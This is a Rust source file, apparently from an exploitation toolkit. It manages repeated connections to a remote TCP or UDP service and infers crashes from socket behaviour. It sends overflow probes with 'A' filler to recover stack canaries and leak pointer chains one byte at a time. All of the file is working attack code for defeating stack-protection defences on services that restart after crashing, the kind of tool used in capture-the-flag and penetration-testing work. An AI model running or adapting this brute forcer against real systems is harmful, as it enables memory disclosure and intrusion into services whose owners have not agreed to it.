//! Remote process connection and crash-oracle brute forcing.
//!
//! Manages one TCP or UDP target through repeated connect/probe/teardown
//! cycles and infers crashes from socket behavior, recovering hidden
//! memory (canaries, pointers) one byte at a time.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream, ToSocketAddrs, UdpSocket};
use std::thread;
use std::time::Duration;

use colored::Colorize;

use crate::arch::Arch;
use crate::error::{Error, Result};
use crate::util::bytes_to_hex;

/// Default reconnect/poll pacing delay (20 milliseconds).
pub const DEFAULT_TIMEOUT_MS: u64 = 20;

/// Default drain window for `clear` (10 milliseconds).
pub const DEFAULT_DRAIN_MS: u64 = 10;

/// Number of single-byte reads `alive` attempts before presuming survival.
const ALIVE_POLL_BUDGET: usize = 100;

/// Drain buffer size.
const DRAIN_BUF: usize = 4096;

/// Transport used to reach the target.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Transport {
    /// Connected TCP stream.
    Stream,
    /// Connectionless UDP datagrams.
    Datagram,
}

/// Handshake hook run against a fresh connection before any probing.
///
/// The target's own banner/greeting consumption logic lives here; the
/// toolkit itself speaks no protocol beyond raw bytes.
pub type ReadyHook = Box<dyn FnMut(&mut Conn) -> Result<()>>;

enum SocketKind {
    Stream(TcpStream),
    Datagram { socket: UdpSocket, peer: SocketAddr },
}

/// An open socket to the target, stream or datagram.
///
/// Exclusively owned by its `RemoteProcess`; dropped on disconnect.
pub struct Conn {
    kind: SocketKind,
}

impl Conn {
    /// Send raw bytes to the target.
    pub fn send(&mut self, data: &[u8]) -> Result<()> {
        match &mut self.kind {
            SocketKind::Stream(stream) => stream.write_all(data)?,
            SocketKind::Datagram { socket, peer } => {
                socket.send_to(data, *peer)?;
            }
        }
        Ok(())
    }

    /// Receive up to `size` bytes, blocking until data arrives.
    pub fn recv(&mut self, size: usize) -> Result<Vec<u8>> {
        self.recv_inner(size, None)
    }

    /// Receive up to `size` bytes with a temporary read timeout.
    ///
    /// No-timeout blocking mode is restored before returning.
    pub fn recv_timeout(&mut self, size: usize, timeout: Duration) -> Result<Vec<u8>> {
        self.recv_inner(size, Some(timeout))
    }

    fn recv_inner(&mut self, size: usize, timeout: Option<Duration>) -> Result<Vec<u8>> {
        self.set_read_timeout(timeout)?;
        let mut buf = vec![0u8; size];
        let outcome = self.read_into(&mut buf);
        self.set_read_timeout(None)?;
        let n = outcome?;
        buf.truncate(n);
        Ok(buf)
    }

    fn read_into(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        match &mut self.kind {
            SocketKind::Stream(stream) => stream.read(buf),
            SocketKind::Datagram { socket, .. } => socket.recv_from(buf).map(|(n, _)| n),
        }
    }

    fn set_read_timeout(&self, timeout: Option<Duration>) -> io::Result<()> {
        match &self.kind {
            SocketKind::Stream(stream) => stream.set_read_timeout(timeout),
            SocketKind::Datagram { socket, .. } => socket.set_read_timeout(timeout),
        }
    }

    fn set_nonblocking(&self, nonblocking: bool) -> io::Result<()> {
        match &self.kind {
            SocketKind::Stream(stream) => stream.set_nonblocking(nonblocking),
            SocketKind::Datagram { socket, .. } => socket.set_nonblocking(nonblocking),
        }
    }
}

/// One logical connection target with a crash/alive oracle.
///
/// The target and transport are fixed at construction; `connect` and
/// `disconnect` may be invoked repeatedly and are idempotent. The
/// environment is expected to restart the target after each crash so
/// every reconnect reaches a fresh instance.
pub struct RemoteProcess {
    host: String,
    port: u16,
    transport: Transport,
    timeout: Duration,
    arch: Arch,
    conn: Option<Conn>,
    canary: u64,
    ready_hook: ReadyHook,
}

impl RemoteProcess {
    /// Create a disconnected handle for `host:port`.
    pub fn new(host: &str, port: u16, transport: Transport, arch: Arch) -> Self {
        Self {
            host: host.to_string(),
            port,
            transport,
            timeout: Duration::from_millis(DEFAULT_TIMEOUT_MS),
            arch,
            conn: None,
            canary: 0,
            ready_hook: Box::new(|_| Ok(())),
        }
    }

    /// Reconnect/poll pacing delay.
    pub fn timeout(&self) -> Duration {
        self.timeout
    }

    /// Set the reconnect/poll pacing delay.
    pub fn set_timeout(&mut self, timeout: Duration) {
        self.timeout = timeout;
    }

    /// Install the handshake hook run after every connect.
    pub fn set_ready(&mut self, hook: impl FnMut(&mut Conn) -> Result<()> + 'static) {
        self.ready_hook = Box::new(hook);
    }

    /// Last canary recovered by `bruteforcecanary`.
    pub fn canary(&self) -> u64 {
        self.canary
    }

    /// Whether a socket is currently open.
    pub fn is_connected(&self) -> bool {
        self.conn.is_some()
    }

    /// The open connection, if any.
    pub fn conn(&mut self) -> Option<&mut Conn> {
        self.conn.as_mut()
    }

    /// Open a fresh connection, tearing down any existing one first.
    ///
    /// Resolution and socket failures surface as [`Error::Connection`]
    /// after a guaranteed teardown of the partial connection.
    pub fn connect(&mut self) -> Result<()> {
        self.disconnect();
        match self.open() {
            Ok(conn) => {
                self.conn = Some(conn);
                Ok(())
            }
            Err(err) => {
                self.disconnect();
                Err(Error::Connection(err.to_string()))
            }
        }
    }

    fn open(&self) -> io::Result<Conn> {
        let peer = (self.host.as_str(), self.port)
            .to_socket_addrs()?
            .next()
            .ok_or_else(|| {
                io::Error::new(io::ErrorKind::NotFound, format!("no address for {}", self.host))
            })?;
        let kind = match self.transport {
            Transport::Stream => SocketKind::Stream(TcpStream::connect(peer)?),
            Transport::Datagram => {
                let local: SocketAddr = if peer.is_ipv4() {
                    ([0, 0, 0, 0], 0).into()
                } else {
                    ([0u16; 8], 0).into()
                };
                SocketKind::Datagram {
                    socket: UdpSocket::bind(local)?,
                    peer,
                }
            }
        };
        Ok(Conn { kind })
    }

    /// Close the socket if open; no-op otherwise.
    pub fn disconnect(&mut self) {
        self.conn = None;
    }

    /// Run the installed handshake hook against the open connection.
    pub fn ready(&mut self) -> Result<()> {
        match self.conn.as_mut() {
            Some(conn) => (self.ready_hook)(conn),
            None => Err(Error::Connection("not connected".to_string())),
        }
    }

    /// Send raw bytes to the target.
    pub fn send(&mut self, data: &[u8]) -> Result<()> {
        self.conn_mut()?.send(data)
    }

    /// Receive up to `size` bytes, blocking until data arrives.
    pub fn recv(&mut self, size: usize) -> Result<Vec<u8>> {
        self.conn_mut()?.recv(size)
    }

    /// Receive up to `size` bytes with a temporary read timeout.
    pub fn recv_timeout(&mut self, size: usize, timeout: Duration) -> Result<Vec<u8>> {
        self.conn_mut()?.recv_timeout(size, timeout)
    }

    /// Drain stale buffered bytes with the default window.
    pub fn clear(&mut self) -> Result<()> {
        self.clear_timeout(Duration::from_millis(DEFAULT_DRAIN_MS))
    }

    /// Sleep the pacing delay, then read and discard whatever the target
    /// has buffered within `timeout`, restoring blocking mode after.
    ///
    /// Resynchronizes framing so stale response bytes cannot be misread
    /// as a live/dead signal by a following health check.
    pub fn clear_timeout(&mut self, timeout: Duration) -> Result<()> {
        thread::sleep(self.timeout);
        let conn = self.conn_mut()?;
        conn.set_read_timeout(Some(timeout))?;
        let mut scratch = [0u8; DRAIN_BUF];
        loop {
            match conn.read_into(&mut scratch) {
                Ok(0) => break,
                Ok(_) => continue,
                Err(err)
                    if err.kind() == io::ErrorKind::WouldBlock
                        || err.kind() == io::ErrorKind::TimedOut =>
                {
                    break
                }
                Err(err) => {
                    let _ = conn.set_read_timeout(None);
                    return Err(err.into());
                }
            }
        }
        conn.set_read_timeout(None)?;
        Ok(())
    }

    /// The crash oracle: is the target still running?
    ///
    /// Polls up to 100 non-blocking single-byte reads. Any readable
    /// event — data, EOF, or a terminal socket error — is evidence of a
    /// crash; only exhausting the whole poll budget on "would block"
    /// counts as survival. The bias is deliberate: silence within
    /// `100 * timeout` is read as the process still running.
    pub fn alive(&mut self) -> Result<bool> {
        let delay = self.timeout;
        let conn = self.conn_mut()?;
        conn.set_nonblocking(true)?;
        let mut alive = true;
        let mut byte = [0u8; 1];
        for _ in 0..ALIVE_POLL_BUDGET {
            match conn.read_into(&mut byte) {
                Ok(_) => {
                    alive = false;
                    break;
                }
                Err(err) if err.kind() == io::ErrorKind::WouldBlock => thread::sleep(delay),
                Err(_) => {
                    alive = false;
                    break;
                }
            }
        }
        Ok(alive)
    }

    /// Recover one word of hidden target memory via the crash oracle.
    ///
    /// For each byte position, candidates 0x00..=0xFF are tried in
    /// ascending order: reconnect, run the ready hook, send
    /// `prefix + recovered + candidate`, then consult `alive`. The first
    /// surviving candidate is kept; a position where even 0xFF dies
    /// yields [`Error::Exhausted`] with no partial result. Bytes are
    /// recovered least-significant-first and decoded little-endian.
    pub fn forcereadbytes(&mut self, prefix: &[u8], verbose: bool) -> Result<u64> {
        let word = self.arch.word_size;
        let mut recovered: Vec<u8> = Vec::with_capacity(word);
        while recovered.len() < word {
            for candidate in 0..=255u8 {
                if verbose {
                    print_guess(word, &recovered, candidate);
                }
                self.connect()?;
                self.ready()?;
                let mut probe = Vec::with_capacity(prefix.len() + recovered.len() + 1);
                probe.extend_from_slice(prefix);
                probe.extend_from_slice(&recovered);
                probe.push(candidate);
                self.send(&probe)?;
                let stillalive = self.alive()?;
                self.disconnect();
                if stillalive {
                    recovered.push(candidate);
                    break;
                } else if candidate == 0xFF {
                    return Err(Error::Exhausted(format!(
                        "no candidate survived at byte {}",
                        recovered.len()
                    )));
                }
            }
        }
        if verbose {
            let mut msb_first = recovered.clone();
            msb_first.reverse();
            println!("0x{}", bytes_to_hex(&msb_first));
        }
        Ok(self.arch.unpack_le(&recovered))
    }

    /// Recover a stack canary sitting `offset` filler bytes past the
    /// corruption boundary. The value is stored on the instance.
    pub fn bruteforcecanary(&mut self, offset: usize, verbose: bool) -> Result<u64> {
        let canary = self.forcereadbytes(&vec![b'A'; offset], verbose)?;
        self.canary = canary;
        Ok(canary)
    }

    /// Leak `depth` consecutive words, feeding each recovered word back
    /// into the prefix of the next probe (pointer-chain walking).
    pub fn bruteforcememory(
        &mut self,
        prefix: &[u8],
        depth: usize,
        verbose: bool,
    ) -> Result<Vec<u64>> {
        let mut results = Vec::with_capacity(depth);
        for _ in 0..depth {
            let mut probe = prefix.to_vec();
            for &word in &results {
                probe.extend_from_slice(&self.arch.pack_le(word));
            }
            results.push(self.forcereadbytes(&probe, verbose)?);
        }
        Ok(results)
    }

    fn conn_mut(&mut self) -> Result<&mut Conn> {
        self.conn
            .as_mut()
            .ok_or_else(|| Error::Connection("not connected".to_string()))
    }
}

/// Progress line for one guess: untried bytes zero-padded, the current
/// candidate in red, recovered bytes (most-significant-first) in green.
fn print_guess(word: usize, recovered: &[u8], candidate: u8) {
    let mut msb_first = recovered.to_vec();
    msb_first.reverse();
    let pad = "00".repeat(word - recovered.len() - 1);
    print!(
        "\r0x{}{}{}",
        pad,
        format!("{:02x}", candidate).red(),
        bytes_to_hex(&msb_first).green()
    );
    let _ = io::stdout().flush();
}
